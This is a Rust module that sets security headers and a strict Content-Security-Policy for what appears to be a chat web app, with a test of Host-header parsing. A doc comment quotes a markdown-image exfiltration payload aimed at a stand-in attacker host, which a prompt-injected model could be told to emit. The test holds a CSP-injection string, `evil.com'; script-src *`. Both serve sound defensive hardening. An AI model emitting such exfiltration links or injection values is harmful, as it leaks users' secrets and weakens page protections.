//! Security headers and the service URLs the page may talk to.

use axum::http::{HeaderMap, HeaderValue, header};
use common::config::WebConfig;

/// Headers on every answer.
pub fn common() -> HeaderMap {
    let mut h = HeaderMap::new();
    h.insert(header::X_CONTENT_TYPE_OPTIONS, HeaderValue::from_static("nosniff"));
    h.insert(header::X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
    h.insert(header::REFERRER_POLICY, HeaderValue::from_static("no-referrer"));
    h.insert("cross-origin-opener-policy", HeaderValue::from_static("same-origin"));
    h.insert(
        "permissions-policy",
        HeaderValue::from_static("camera=(), microphone=(), geolocation=(), payment=(), usb=()"),
    );
    h
}

/// The page may load only its own scripts and styles, never frame or be framed, and connect only
/// to the two services. Images from elsewhere are refused too: a model told to emit
/// `![](https://attacker/?q=secret)` cannot make the browser send anything.
pub fn content_security_policy(urls: &ServiceUrls) -> HeaderValue {
    let chat_ws = urls.chat.replacen("http", "ws", 1);
    let csp = format!(
        "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; \
         connect-src 'self' {} {} {chat_ws}; frame-ancestors 'none'; base-uri 'none'; form-action 'self'; \
         object-src 'none'",
        urls.auth, urls.chat
    );
    HeaderValue::from_str(&csp)
        .unwrap_or(HeaderValue::from_static("default-src 'self'; frame-ancestors 'none'"))
}

/// The configured URLs, or the ports to put after the page's own host name.
pub struct Endpoints {
    auth_url: String,
    chat_url: String,
    auth_port: u16,
    chat_port: u16,
}

pub struct ServiceUrls {
    pub auth: String,
    pub chat: String,
}

impl Endpoints {
    pub fn new(config: &WebConfig, auth_port: u16, chat_port: u16) -> Self {
        let trim = |s: &str| s.trim_end_matches('/').to_owned();
        Self { auth_url: trim(&config.auth_url), chat_url: trim(&config.chat_url), auth_port, chat_port }
    }

    /// The services as the browser that sent `request` reaches them.
    pub fn resolve(&self, request: &HeaderMap) -> ServiceUrls {
        let host = request.get(header::HOST).and_then(|h| h.to_str().ok()).and_then(host_name);
        let host = host.unwrap_or("localhost");
        let pick = |url: &str, port: u16| {
            if url.is_empty() { format!("http://{host}:{port}") } else { url.to_owned() }
        };
        ServiceUrls { auth: pick(&self.auth_url, self.auth_port), chat: pick(&self.chat_url, self.chat_port) }
    }
}

/// The host name of a `Host` header (without the port), if it is a plain name or address.
fn host_name(host: &str) -> Option<&str> {
    let name = if host.starts_with('[') {
        &host[..=host.find(']')?]
    } else {
        host.split(':').next().unwrap_or_default()
    };
    let valid = !name.is_empty()
        && name.len() <= 253
        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':'));
    valid.then_some(name)
}

#[cfg(test)]
mod tests {
    use super::host_name;

    #[test]
    fn host_names_are_parsed_and_checked() {
        assert_eq!(host_name("localhost:3000"), Some("localhost"));
        assert_eq!(host_name("chat.example.org"), Some("chat.example.org"));
        assert_eq!(host_name("[::1]:3000"), Some("[::1]"));
        assert_eq!(host_name("evil.com'; script-src *"), None);
        assert_eq!(host_name("a b"), None);
        assert_eq!(host_name(""), None);
    }
}
